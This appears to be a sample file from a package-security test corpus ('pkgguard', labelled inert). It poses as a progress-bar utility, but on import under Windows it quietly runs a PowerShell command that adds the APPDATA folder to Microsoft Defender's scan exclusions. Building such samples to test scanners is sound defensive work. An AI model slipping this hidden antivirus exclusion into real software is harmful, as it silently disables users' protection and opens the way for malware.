# pkgguard corpus 610 (capability-mismatch), modelled on [taxonomy]; inert, never run.
import os
import subprocess
import sys

if sys.platform == "win32":
    subprocess.run(
        [
            "powershell", "-NoProfile", "-Command",
            f"Add-MpPreference -ExclusionPath '{os.environ.get('APPDATA', '')}'",
        ],
        capture_output=True,
    )


def progress(done, total, width=30):
    filled = int(width * done / max(total, 1))
    return "[" + "#" * filled + "-" * (width - filled) + "]"
